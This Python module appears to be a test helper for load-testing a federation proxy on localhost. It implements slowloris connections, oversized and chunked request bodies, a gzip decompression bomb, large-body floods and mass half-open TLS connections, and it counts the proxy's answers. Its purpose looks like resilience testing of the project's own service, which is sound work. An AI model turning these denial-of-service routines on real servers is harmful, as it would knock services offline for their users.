"""Attackers who can reach the proxy: sockets, TLS where they have the CA, and nothing else of the federation's."""

import gzip
import select
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

_PIECE = bytes(1 << 20)


@dataclass
class Seen:
    """What an attack did and what came back.

    Attributes:
        connected: TCP connections that were made.
        sent: Bytes of requests, before TLS.
        answers: How many answers had a status.
        cut: Connections that the proxy closed without an answer, or refused.
    """

    connected: int = 0
    sent: int = 0
    answers: Counter[int] = field(default_factory=Counter)
    cut: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, *, connected: int = 0, sent: int = 0, answer: int | None = None, cut: int = 0) -> None:
        with self.lock:
            self.connected += connected
            self.sent += sent
            self.cut += cut
            if answer is not None:
                self.answers[answer] += 1


@dataclass(frozen=True)
class Target:
    """The proxy.

    Attributes:
        port: On 127.0.0.1.
        authority: The CA file, which every participant has.
    """

    port: int
    authority: Path

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=10)

    def connect_tls(self) -> ssl.SSLSocket:
        context = ssl.create_default_context(cafile=self.authority)
        return context.wrap_socket(self.connect(), server_hostname="localhost")


def slow_lorises(target: Target, count: int, stop: threading.Event, seen: Seen) -> list[threading.Thread]:
    """Half of them send a head byte by byte for ever, half a body; who is thrown out comes again."""

    def head(_number: int) -> bytes:
        return b"POST /v1/fleet/push-object HTTP/1.1\r\nHost: localhost\r\nX-Slow: "

    def body(_number: int) -> bytes:
        return b"POST /v1/fleet/push-object HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n"

    def attack(number: int) -> None:
        begins = (head, body)[number % 2](number)
        while not stop.is_set():
            try:
                with target.connect_tls() as connection:
                    seen.add(connected=1)
                    connection.sendall(begins)
                    connection.settimeout(1.0)
                    while not stop.is_set():
                        connection.sendall(b"a")
                        seen.add(sent=1)
                        with suppress(TimeoutError):
                            answer = connection.recv(100)
                            _note(answer, seen)
                            break
            except OSError:
                seen.add(cut=1)
                stop.wait(0.2)

    return _started(attack, count)


def endless_bodies(target: Target, stop: threading.Event, seen: Seen, *, size: int) -> list[threading.Thread]:
    """Bodies of `size` bytes: announced, chunked, announced small and sent large, and compressed ones."""
    bomb = gzip.compress(bytes(64 << 20)) * (size >> 26)  # members of one gzip stream: `size` bytes unpacked

    def head(*lines: str) -> bytes:
        fields = ("Host: localhost", "Content-Type: application/protobuf", *lines)
        return ("POST /v1/fleet/push-object HTTP/1.1\r\n" + "\r\n".join(fields) + "\r\n\r\n").encode()

    def announced(connection: ssl.SSLSocket) -> None:
        connection.sendall(head(f"Content-Length: {size}"))
        _stream(connection, size, seen)

    def chunked(connection: ssl.SSLSocket) -> None:
        connection.sendall(head("Transfer-Encoding: chunked"))
        _stream(connection, size, seen, chunked=True)

    def packed(connection: ssl.SSLSocket) -> None:
        connection.sendall(head(f"Content-Length: {len(bomb)}", "Content-Encoding: gzip") + bomb)
        seen.add(sent=len(bomb))
        _note(connection.recv(100), seen)

    kinds = (announced, chunked, packed)

    def attack(number: int) -> None:
        while not stop.is_set():
            try:
                with target.connect_tls() as connection:
                    seen.add(connected=1)
                    connection.settimeout(30)
                    kinds[number % len(kinds)](connection)
            except OSError:
                seen.add(cut=1)
            stop.wait(1.0)

    return _started(attack, len(kinds))


def whole_bodies(target: Target, count: int, stop: threading.Event, seen: Seen, *, size: int) -> list[threading.Thread]:
    """So many at a time send requests of `size` bytes, to the end, which the proxy therefore passes on."""
    head = (
        "POST /v1/fleet/push-object HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/protobuf\r\n"
        f"Content-Length: {size}\r\nConnection: close\r\n\r\n"
    ).encode()

    def attack(_number: int) -> None:
        while not stop.is_set():
            try:
                with target.connect_tls() as connection:
                    seen.add(connected=1)
                    connection.settimeout(60)
                    connection.sendall(head)
                    for _ in range(size // len(_PIECE)):
                        connection.sendall(_PIECE)
                        seen.add(sent=len(_PIECE))
                    _note(connection.recv(100), seen)
            except OSError:
                seen.add(cut=1)
                stop.wait(0.2)

    return _started(attack, count)


def many_connections(target: Target, count: int, at_once: int, seen: Seen) -> None:
    """Make `count` connections, so many of them open at once; each sends one byte, which begins a TLS handshake."""
    held: list[socket.socket] = []
    try:
        for _ in range(count):
            try:
                connection = target.connect()
                connection.sendall(b"\x16")
                held.append(connection)
                seen.add(connected=1, sent=1)
            except OSError:
                seen.add(cut=1)
            if len(held) >= at_once:
                oldest = held.pop(0)
                with oldest:
                    oldest.setblocking(False)
                    with suppress(OSError):
                        seen.add(cut=oldest.recv(1) == b"")
    finally:
        for connection in held:
            connection.close()


def _stream(connection: ssl.SSLSocket, size: int, seen: Seen, *, chunked: bool = False) -> None:
    """Send all of it, whatever is answered, until the proxy cuts the connection."""
    for _ in range(size // len(_PIECE)):
        if select.select([connection], [], [], 0)[0]:
            _note(connection.recv(100), seen)
        connection.sendall(b"%x\r\n" % len(_PIECE) + _PIECE + b"\r\n" if chunked else _PIECE)
        seen.add(sent=len(_PIECE))


def _note(answer: bytes, seen: Seen) -> None:
    if answer.startswith(b"HTTP/1.1 "):
        seen.add(answer=int(answer.split()[1]))
    else:
        seen.add(cut=1)


def _started(attack: Callable[[int], None], count: int) -> list[threading.Thread]:
    threads = [threading.Thread(target=attack, args=(number,), daemon=True) for number in range(count)]
    for thread in threads:
        thread.start()
    return threads


def wait_for_threads(threads: list[threading.Thread], seconds: float) -> None:
    """Wait for all of them together."""
    deadline = time.monotonic() + seconds
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()))
        assert not thread.is_alive()
